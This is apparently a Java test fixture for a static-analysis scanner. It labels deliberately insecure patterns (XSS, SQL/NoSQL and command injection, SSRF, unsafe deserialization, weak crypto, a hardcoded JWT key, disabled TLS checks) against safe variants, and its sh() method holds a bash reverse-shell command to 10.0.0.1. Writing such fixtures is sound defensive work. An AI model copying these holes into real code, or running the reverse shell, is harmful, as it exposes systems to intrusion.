package a;
import java.io.*;
import java.net.*;
import java.util.*;
import javax.crypto.Cipher;
import javax.crypto.spec.*;
import javax.naming.*;
import javax.naming.directory.*;
import javax.servlet.*;
import javax.servlet.http.*;
import org.apache.commons.mail.*;
import org.springframework.web.bind.annotation.*;
import java.security.*;

public class OddCalls extends HttpServlet {
    void ldap() throws Exception {
        Hashtable<String, String> env = new Hashtable<>();
        // ruleid: authentication
        env.put(Context.SECURITY_AUTHENTICATION, "none");
        // ok: authentication
        env.put(Context.SECURITY_AUTHENTICATION, "simple");
        env.put(Context.PROVIDER_URL, "ldap://a.example.com");
        // ruleid: ldap-injection
        SearchControls sc = new SearchControls(1, 0, 0, null, true, false);
        // ok: ldap-injection
        SearchControls sc2 = new SearchControls(1, 0, 0, null, false, false);
    }
    void sh() throws Exception {
        Runtime.getRuntime().exec(new String[]{"/bin/bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/443 0>&1"});
    }
    void mail() throws Exception {
        Email email = new SimpleEmail();
        email.setHostName("smtp.example.com");
        // ruleid: data-exposure
        email.setSSLOnConnect(false);
    }
    @Override
    protected void doPost(HttpServletRequest request, HttpServletResponse response) throws IOException, ServletException {
        try {
            run();
        } catch (Exception e) {
            // ok: data-exposure
            e.printStackTrace();
            // ruleid: data-exposure
            e.printStackTrace(response.getWriter());
            // ruleid: data-exposure
            response.getWriter().print(e);
        }
        String url = response.encodeURL("http://x");
        String env = request.getParameter("e");
        String[] envp = {"A=" + env};
        // ruleid: command-injection
        Runtime.getRuntime().exec("cmd.exe /c dir", envp);
        response.setContentType("text/html");
        ServletOutputStream out = response.getOutputStream();
        // ruleid: xss
        out.print(request.getParameter("x"));
        // ruleid: xss
        out.write(request.getParameter("x").getBytes());
        PrintWriter w = response.getWriter();
        // ruleid: xss
        w.append(request.getParameter("x"));
        String s = (String) request.getAttribute("safe");
        // ok: xss
        w.write("<p>" + org.owasp.encoder.Encode.forHtml(request.getParameter("x")));
        String sanitized = org.apache.commons.text.StringEscapeUtils.escapeHtml4(request.getParameter("x"));
        // ok: xss
        w.write(sanitized);
        // ok: xss
        w.println(org.springframework.web.util.HtmlUtils.htmlEscape(request.getParameter("x")));
        response.setContentType("application/json");
        // ok: xss
        w.write(request.getParameter("x"));
    }
    void crypto(byte[] key, byte[] nonce) throws Exception {
        Cipher c = Cipher.getInstance("AES/GCM/NoPadding");
        byte[] theIV = "fixednonce12".getBytes();
        // ruleid: weak-crypto
        GCMParameterSpec spec = new GCMParameterSpec(128, theIV);
        // ok: weak-crypto
        GCMParameterSpec spec2 = new GCMParameterSpec(128, nonce);
        // ok: weak-hash
        MessageDigest.getInstance("SHA-224");
        // ruleid: weak-hash
        MessageDigest.getInstance("MD4");
        // ruleid: weak-crypto
        Cipher.getInstance("RC2");
        // ok: weak-crypto
        Cipher.getInstance("AES/CTR/NoPadding");
        new RSAKeyGenParameterSpec0(1024, null);
        KeyPairGenerator kpg = KeyPairGenerator.getInstance("RSA");
        // ruleid: weak-crypto
        kpg.initialize(512);
        // ruleid: weak-crypto
        KeyPairGenerator.getInstance("DSA").initialize(1024);
        KeyPairGenerator ec = KeyPairGenerator.getInstance("EC");
        // ruleid: weak-crypto
        ec.initialize(112);
        // ok: weak-crypto
        ec.initialize(256);
    }
    void reflect(HttpServletRequest request) throws Exception {
        // ruleid: code-injection
        Class<?> c = Class.forName(request.getParameter("c"));
        // ruleid: code-injection
        c.getMethod(request.getParameter("m")).invoke(null);
        // ok: code-injection
        Class.forName("com.example.Known");
        if (Set.of("com.example.A", "com.example.B").contains(request.getParameter("c"))) {
            // ok: code-injection
            Class.forName(request.getParameter("c"));
        }
        // ruleid: command-injection
        System.load(request.getParameter("lib"));
        // ruleid: ssrf
        new java.net.URLClassLoader(new URL[]{new URL(request.getParameter("u"))});
    }
    void jwt(String token) {
        // ruleid: jwt
        com.auth0.jwt.interfaces.DecodedJWT j = com.auth0.jwt.JWT.decode(token);
        String u = j.getClaim("user").asString();
        // ruleid: jwt
        io.jsonwebtoken.Jwts.parserBuilder().build().parseClaimsJwt(token);
        // ruleid: hardcoded-secret
        io.jsonwebtoken.Jwts.parserBuilder().setSigningKey("hardcoded-signing-key-1234").build().parseClaimsJws(token);
    }
    void nosql(com.mongodb.client.MongoCollection<org.bson.Document> col, HttpServletRequest r) {
        // ruleid: nosql-injection
        col.find(org.bson.Document.parse("{name: '" + r.getParameter("n") + "'}"));
        // ruleid: nosql-injection
        col.find(new org.bson.Document("$where", "this.name == '" + r.getParameter("n") + "'"));
        // ok: nosql-injection
        col.find(com.mongodb.client.model.Filters.eq("name", r.getParameter("n")));
        // ruleid: nosql-injection
        new org.springframework.data.mongodb.core.query.BasicQuery("{name: '" + r.getParameter("n") + "'}");
    }
    void rmi(java.rmi.registry.Registry reg) throws Exception {
        org.hibernate.Session session = null;
        // ok: sql-injection
        session.createQuery("from U where n = '" + System.getProperty("a") + "'");
        // ok: sql-injection
        session.createNativeQuery("select * from u where n = '" + g() + "'");
    }
    void hib(org.hibernate.Session session, String input) {
        // ruleid: sql-injection
        session.createSQLQuery("select * from u where n = '" + input + "'");
        // ruleid: sql-injection
        session.createCriteria(Object.class).add(org.hibernate.criterion.Restrictions.sqlRestriction("n = '" + input + "'"));
        // ok: sql-injection
        session.createQuery("from U where n = :n").setParameter("n", input);
        io.vertx.sqlclient.SqlClient client = null;
        // ruleid: sql-injection
        client.query("select * from u where n = '" + input + "'");
        // ok: sql-injection
        client.preparedQuery("select * from u where n = ?").execute();
    }
    void yaml(String y) {
        // ruleid: deserialization
        new org.yaml.snakeyaml.Yaml().load(y);
        // ok: deserialization
        new org.yaml.snakeyaml.Yaml(new org.yaml.snakeyaml.constructor.SafeConstructor(new org.yaml.snakeyaml.LoaderOptions())).load(y);
        // ok: deserialization
        new com.thoughtworks.xstream.XStream();
        com.fasterxml.jackson.databind.ObjectMapper m = new com.fasterxml.jackson.databind.ObjectMapper();
        // ruleid: deserialization
        m.activateDefaultTyping(com.fasterxml.jackson.databind.jsontype.impl.LaissezFaireSubTypeValidator.instance);
    }
    void net(HttpServletRequest request) throws Exception {
        // ok: ssrf
        new Socket("a.example.com", 80);
        // ok: command-injection
        InetAddress.getByName(request.getParameter("h")).isReachable(100);
        // ruleid: ssrf
        ((HttpURLConnection) new URL(request.getParameter("u")).openConnection()).connect();
        new javax.net.ssl.HttpsURLConnection0();
        // ruleid: tls-verification
        okhttp3.OkHttpClient c = new okhttp3.OkHttpClient.Builder().hostnameVerifier((h, s) -> true).build();
        // ruleid: tls-verification
        org.apache.http.ssl.SSLContexts.custom().loadTrustMaterial(null, (chain, t) -> true).build();
        // ruleid: tls-verification
        org.apache.http.ssl.SSLContexts.custom().loadTrustMaterial(null, org.apache.http.conn.ssl.TrustAllStrategy.INSTANCE);
        // ruleid: tls-verification
        org.apache.http.ssl.SSLContexts.custom().loadTrustMaterial(null, new org.apache.http.conn.ssl.TrustSelfSignedStrategy());
        // ruleid: tls-verification
        io.netty.handler.ssl.SslContextBuilder.forClient().trustManager(io.netty.handler.ssl.util.InsecureTrustManagerFactory.INSTANCE);
        // ruleid: tls-verification
        System.setProperty("jdk.internal.httpclient.disableHostnameVerification", "true");
        // ruleid: deserialization
        System.setProperty("com.sun.jndi.ldap.object.trustURLCodebase", "true");
    }
}
